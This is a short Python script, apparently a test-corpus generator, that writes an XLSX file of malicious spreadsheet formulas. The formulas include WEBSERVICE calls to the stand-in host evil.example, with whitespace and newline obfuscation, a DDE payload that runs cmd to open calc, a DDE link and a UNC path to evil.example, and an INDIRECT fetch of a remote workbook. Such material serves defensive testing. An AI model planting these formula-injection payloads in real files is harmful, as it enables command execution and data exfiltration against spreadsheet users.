# SPDX-License-Identifier: GPL-2.0-or-later
from recipes import emit
from recipes_ooxml import *

FORMULAS = ['IF(TRUE,Webservice ("http://evil.example/"),1)', 'SUM(1,\nWEBSERVICE\n("http://evil.example/"))', '+WEBSERVICE("http://evil.example/")', "cmd|'/c calc'!A0", "'MSEXCEL'|'evil.example'!'A0'",
            "'\\\\evil.example\\[a.xlsx]S'!A1", 'INDIRECT("[http://evil.example/a.xlsx]S!A1")']
emit(xlsx(''.join(cell(f'A{row}', str(row), formula.replace('&', '&amp;').replace('<', '&lt;')) for row, formula in enumerate(FORMULAS, 1))))
